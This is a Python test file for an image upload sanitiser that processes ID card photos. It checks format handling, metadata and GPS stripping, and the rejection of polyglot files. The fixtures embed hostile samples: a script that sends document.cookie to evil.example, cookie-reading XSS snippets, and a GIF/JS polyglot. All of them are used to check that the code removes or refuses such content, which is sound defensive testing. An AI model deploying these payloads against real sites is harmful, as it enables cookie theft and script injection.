"""Safe image uploads (registrations/uploads.py), what goes in and what comes out: the
accepted formats, metadata and polyglots stripped, what is refused as no image or an
unsupported one, colour and size conversions, the result's own API.

No database. Every sample is made in memory (``testing/images.py``).
"""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image, ImageCms, ImageDraw, PngImagePlugin

from registrations import uploads
from registrations.uploads import MAX_OUTPUT_SIDE, THUMBNAIL_SIDE, UploadRejected, process_image_upload
from testing.images import (
    CORRUPT,
    KTP_SIZE,
    NOT_AN_IMAGE,
    assert_clean_jpeg,
    card,
    encode,
    ktp_heic,
    ktp_jpeg,
    ktp_png,
    process,
    refusal,
)

#: The refusals are compared in Indonesian, whatever the test run's language.
pytestmark = pytest.mark.usefixtures("indonesian")


# --- Accepted formats ---------------------------------------------------------------


def test_jpeg_is_reencoded_clean_with_thumbnail_and_hash():
    import hashlib

    result = process(ktp_jpeg(), kind="ktp")
    out = assert_clean_jpeg(result.content)
    assert out.size == (result.width, result.height) == KTP_SIZE
    assert result.original_format == "JPEG"
    assert result.sha256 == hashlib.sha256(result.content).hexdigest()
    assert result.warnings == []
    assert_clean_jpeg(result.thumbnail)
    assert "progressive" in out.info or out.info.get("progression")


def test_png_with_alpha_is_composited_over_white():
    img = Image.new("RGBA", (800, 600), (0, 0, 0, 0))  # transparent (black) background
    img.paste(card((400, 252)).convert("RGBA"), (200, 174))
    ImageDraw.Draw(img).rectangle((10, 10, 60, 60), fill=(255, 0, 0, 128))  # half-transparent red
    result = process(encode(img, "PNG"))
    out = assert_clean_jpeg(result.content)
    assert result.original_format == "PNG"
    r, g, b = out.getpixel((700, 50))
    assert min(r, g, b) >= 250, "transparent area must come out white, not black"
    r, g, b = out.getpixel((35, 35))
    assert r >= 250 and 110 <= g <= 145 and 110 <= b <= 145, "50% red over white is pink"


def test_palette_png_with_transparency_is_composited_over_white():
    img = card((800, 505)).convert("P", palette=Image.Palette.ADAPTIVE, colors=64)
    transparent = img.getpixel((0, 0))  # the card's background colour
    result = process(encode(img, "PNG", transparency=transparent))
    out = assert_clean_jpeg(result.content)
    assert min(out.getpixel((5, 5))) >= 250


def test_heic_is_accepted_and_reencoded_as_jpeg():
    result = process(ktp_heic(), kind="ktp")
    out = assert_clean_jpeg(result.content)
    assert result.original_format == "HEIF"
    assert out.size == KTP_SIZE
    assert result.warnings == []


def test_multi_picture_jpeg_counts_as_jpeg_and_keeps_the_first_frame():
    first, second = card(), Image.new("RGB", KTP_SIZE, (255, 0, 0))
    data = encode(first, "MPO", save_all=True, append_images=[second])
    assert Image.open(io.BytesIO(data)).format == "MPO"
    result = process(data, kind="ktp")
    assert result.original_format == "JPEG"
    out = assert_clean_jpeg(result.content)
    assert out.getpixel((5, 5))[0] < 230, "first frame (the card), not the red one"


def test_format_comes_from_the_content_not_the_name_or_content_type():
    upload = SimpleUploadedFile("ktp.jpg", ktp_png(), content_type="image/jpeg")
    assert process_image_upload(upload, kind="ktp").original_format == "PNG"


def test_a_file_already_read_to_the_end_is_rewound():
    upload = SimpleUploadedFile("ktp.jpg", ktp_jpeg(), content_type="image/jpeg")
    upload.read()
    assert process_image_upload(upload).width == KTP_SIZE[0]


# --- Metadata and polyglots ---------------------------------------------------------


def test_exif_with_gps_is_stripped_and_orientation_applied():
    # Stored sideways (portrait pixels) with Orientation 6 = "rotate 90 degrees clockwise
    # to display": upright, it is a landscape card.
    stored = card().transpose(Image.Transpose.ROTATE_90)
    ImageDraw.Draw(stored).rectangle((0, 0, 40, 40), fill=(255, 0, 0))  # red mark, stored top-left
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "SecretPhone"
    exif[ExifTags.Base.DateTime] = "2024:08:17 10:00:00"
    exif[ExifTags.Base.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "S",
        ExifTags.GPS.GPSLatitude: (6.0, 54.0, 52.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (107.0, 36.0, 35.0),
    }
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = encode(
        stored,
        "JPEG",
        quality=90,
        exif=exif,
        icc_profile=srgb,
        comment=b"secret comment",
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">secret-xmp</x:xmpmeta>',
    )
    source = Image.open(io.BytesIO(data))
    assert source.getexif().get_ifd(ExifTags.IFD.GPSInfo), "the sample does carry GPS"
    assert source.size == (638, 1011)

    result = process(data, kind="ktp")

    out = assert_clean_jpeg(result.content)
    assert out.size == (1011, 638), "EXIF orientation applied: dimensions swapped"
    assert result.warnings == [], "upright after the transpose, so no 'portrait KTP' warning"
    red, green, _blue = out.getpixel((1011 - 20, 20))
    assert red > 200 and green < 60, "stored top-left ends up top-right after a 90 degree CW turn"
    for secret in (b"SecretPhone", b"2024:08:17", b"secret comment", b"secret-xmp", b"GPS"):
        assert secret not in result.content and secret not in result.thumbnail
    assert not Image.open(io.BytesIO(result.thumbnail)).getexif()


def test_png_text_chunks_do_not_survive():
    meta = PngImagePlugin.PngInfo()
    meta.add_text("Comment", "<script>alert(1)</script>")
    meta.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>secret-xmp</x:xmpmeta>")
    result = process(encode(card(), "PNG", pnginfo=meta))
    assert_clean_jpeg(result.content)
    assert b"<script>" not in result.content and b"secret-xmp" not in result.content


def _zip_payload() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("payload.js", "/*POLYGLOT-MARKER*/ fetch('https://evil.example/'+document.cookie)")
    return buf.getvalue()


@pytest.mark.parametrize(
    "appended",
    [
        pytest.param(_zip_payload(), id="zip"),
        pytest.param(b"%PDF-1.7\n1 0 obj<</POLYGLOT-MARKER>>endobj\n%%EOF", id="pdf"),
        pytest.param(b"<html><script>/*POLYGLOT-MARKER*/alert(document.cookie)</script></html>", id="html"),
    ],
)
def test_polyglot_jpeg_with_data_after_eoi_comes_out_clean(appended):
    data = ktp_jpeg() + appended
    assert Image.open(io.BytesIO(data)).format == "JPEG", "a valid image that carries a payload"
    result = process(data, kind="ktp")
    assert_clean_jpeg(result.content)
    for content in (result.content, result.thumbnail):
        assert b"PK\x03\x04" not in content
        assert b"POLYGLOT-MARKER" not in content
        assert appended not in content


def test_polyglot_png_with_data_after_iend_comes_out_clean():
    result = process(ktp_png() + _zip_payload())
    assert b"PK\x03\x04" not in result.content and b"POLYGLOT-MARKER" not in result.content


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/XObject/Subtype/Image>>stream\n", id="pdf"),
        pytest.param(b"<!DOCTYPE html><html><body><img src='data:image/jpeg;base64,", id="html"),
    ],
)
def test_documents_with_an_embedded_jpeg_are_refused(data):
    error = refusal(data + ktp_jpeg() + b"\nendstream endobj %%EOF</body></html>")
    assert error.code == "not_an_image"
    assert error.message == NOT_AN_IMAGE


def test_renamed_pdf_is_refused():
    pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
    upload = SimpleUploadedFile("ktp.jpg", pdf, content_type="image/jpeg")
    with pytest.raises(UploadRejected) as info:
        process_image_upload(upload, kind="ktp")
    assert info.value.code == "not_an_image"
    assert info.value.message == NOT_AN_IMAGE == str(info.value)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(lambda: encode(card((640, 404)), "GIF"), id="gif"),
        pytest.param(lambda: b"GIF89a/*\x00\x00\x00\x00*/=1;alert(document.domain);//" + bytes(64), id="gif-js"),
        pytest.param(lambda: encode(card((640, 404)), "WEBP"), id="webp"),
        pytest.param(lambda: encode(card((640, 404)), "BMP"), id="bmp"),
        pytest.param(lambda: encode(card((640, 404)), "TIFF"), id="tiff"),
    ],
)
def test_other_image_formats_are_refused_as_unsupported(data):
    error = refusal(data(), kind="ktp")
    assert error.code == "unsupported_format"
    assert error.message == NOT_AN_IMAGE


@pytest.mark.parametrize(
    "data",
    [b"", b"hello", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", b"\x00" * 100],
)
def test_non_images_are_refused(data):
    assert refusal(data).code == "not_an_image"


# --- Conversions --------------------------------------------------------------------


def test_cmyk_jpeg_is_converted_to_rgb():
    img = Image.new("CMYK", (800, 600), (0, 0, 0, 0))  # white paper
    ImageDraw.Draw(img).rectangle((100, 100, 400, 400), fill=(255, 0, 0, 0))  # cyan
    ImageDraw.Draw(img).rectangle((500, 100, 700, 400), fill=(0, 0, 0, 255))  # black
    data = encode(img, "JPEG", quality=95)
    assert Image.open(io.BytesIO(data)).mode == "CMYK"
    out = assert_clean_jpeg(process(data).content)
    assert min(out.getpixel((10, 10))) >= 245
    r, g, b = out.getpixel((250, 250))
    assert r < 30 and g > 225 and b > 225
    assert max(out.getpixel((600, 250))) < 30


def test_sixteen_bit_greyscale_png_is_scaled_not_clipped():
    gradient = Image.linear_gradient("L").resize((600, 600))  # top 0 .. bottom 255
    sixteen = gradient.convert("I").point(lambda v: v * 257).convert("I;16")
    data = encode(sixteen, "PNG")
    assert Image.open(io.BytesIO(data)).mode == "I;16"
    out = assert_clean_jpeg(process(data).content)
    assert max(out.getpixel((300, 5))) < 15
    assert all(110 <= v <= 145 for v in out.getpixel((300, 300))), "mid-grey, not clipped to white"
    assert min(out.getpixel((300, 595))) > 240


def test_large_photo_is_downsized_and_thumbnail_is_small():
    data = encode(card((4000, 2524)), "JPEG", quality=85)
    result = process(data, kind="ktp")
    assert (result.width, result.height) == (MAX_OUTPUT_SIDE, 1262)
    thumb = Image.open(io.BytesIO(result.thumbnail))
    assert thumb.format == "JPEG"
    assert max(thumb.size) <= THUMBNAIL_SIDE
    assert thumb.size == (THUMBNAIL_SIDE, 202)
    assert result.warnings == []


def test_small_photo_is_not_enlarged():
    result = process(encode(card((800, 505)), "PNG"))
    assert (result.width, result.height) == (800, 505)
    assert max(Image.open(io.BytesIO(result.thumbnail)).size) == THUMBNAIL_SIDE


# --- API details --------------------------------------------------------------------


def test_processed_image_is_frozen_and_hashable():
    import dataclasses

    result = process(ktp_jpeg())
    with pytest.raises(dataclasses.FrozenInstanceError):
        result.width = 1  # type: ignore[misc]
    assert hash(result) == hash(dataclasses.replace(result, warnings=["x"]))


def test_text_file_is_a_programming_error():
    with pytest.raises(TypeError):
        process_image_upload(io.StringIO("not bytes"))


def test_upload_rejected_carries_code_and_plain_message():
    error = UploadRejected(uploads.MSG_CORRUPT, code="corrupt")
    assert error.code == "corrupt"
    assert type(error.message) is str and error.message == CORRUPT
    assert "corrupt" in repr(error)
